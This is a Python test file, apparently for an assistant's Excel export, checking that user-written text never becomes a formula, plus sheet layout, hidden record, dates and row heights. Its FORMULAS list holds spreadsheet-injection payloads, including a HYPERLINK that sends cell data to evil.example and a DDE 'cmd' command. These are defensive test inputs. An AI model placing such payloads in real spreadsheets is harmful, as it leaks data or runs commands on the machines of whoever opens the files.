"""The matrix for Excel: lists, filters, panes, a hidden record, and never a formula."""

import io
import re
from datetime import date

import openpyxl
import pytest

from assistant.drafting.draft import RowStatus
from assistant.files.words import file_words, matrix_columns
from assistant.files.xlsx import matrix_to_xlsx
from tests.assistant.files.making import draft, matrix_row
from tests.assistant.files.reading import parts

SHEET = "xl/worksheets/sheet1.xml"
FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "+1+1",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/c calc'!A0",
    "'=1",
]


def book_of(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_user_wrote_is_never_a_formula(text):
    row = matrix_row(1, owner=text, notes=text, response_location=text, because=text, subject=text)
    data = matrix_to_xlsx(draft(matrix=(row,), title=text, draft_id=text))
    cells = [cell for sheet in book_of(data) for line in sheet.iter_rows() for cell in line]

    assert all(cell.data_type != "f" for cell in cells)
    assert not any(b"<f>" in part or b"<f " in part for part in parts(data).values())
    assert sum(cell.value == text.replace("\r", "\n") for cell in cells) >= 5


def test_the_sheet_can_be_worked_with():
    book = book_of(matrix_to_xlsx(draft()))
    sheet = book[file_words().matrix.sheet]
    rules = {rule.type: rule for rule in sheet.data_validations.dataValidation}

    assert book.sheetnames == ["Matrix", "How to use", "Record"]
    assert book["Record"].sheet_state == "hidden"
    assert [cell.value for cell in sheet[1]] == [column.title for column in matrix_columns()]
    assert sheet.auto_filter.ref == f"A1:O{len(draft().matrix) + 1}"
    assert sheet.freeze_panes == "B2"
    assert rules["list"].formula1 == '"' + ",".join(file_words().status.values()) + '"'
    assert len(rules["list"].formula1) <= 255
    assert "L2" in str(rules["date"].sqref)
    assert sheet["B2"].alignment.wrap_text


def test_the_record_names_the_draft_and_its_rows():
    record = book_of(matrix_to_xlsx(draft()))["Record"]
    cells = [[cell.value for cell in line][:2] for line in record.iter_rows()]

    assert cells[:3] == [["draft_id", "d-1"], ["version", "2"], ["as_of", "2026-11-22"]]
    assert [line[0] for line in cells[4:]] == [row.id for row in draft().matrix]


def test_a_day_is_a_day_and_a_status_a_word_of_the_list():
    row = matrix_row(1, due=date(2026, 6, 30), status=RowStatus.READY_FOR_REVIEW)
    sheet = book_of(matrix_to_xlsx(draft(matrix=(row,))))["Matrix"]

    assert sheet["L2"].value.date() == date(2026, 6, 30)
    assert sheet["L2"].number_format == "yyyy-mm-dd"
    assert sheet["J2"].value == "ready for review"


def test_the_same_draft_makes_the_same_bytes():
    assert matrix_to_xlsx(draft()) == matrix_to_xlsx(draft())


def test_every_field_of_a_row_that_people_read_has_a_column():
    fields = set(type(matrix_row(1)).model_fields) - {"confidential", "set_by_people"}

    assert {column.field for column in matrix_columns()} == fields


def test_a_row_is_as_high_as_its_words_and_grows_with_those_of_people():
    rows = (matrix_row(1, because="short"), matrix_row(2, because="a long reason " * 30))
    short, long = (
        re.search(
            rf'<row r="{line}"[^>]*>', parts(matrix_to_xlsx(draft(matrix=rows)))[SHEET].decode()
        )
        for line in (2, 3)
    )

    assert height(long[0]) > 4 * height(short[0])
    assert "customHeight" not in short[0] + long[0]


def height(row: str) -> float:
    return float(re.search(r'ht="([0-9.]+)"', row)[1])
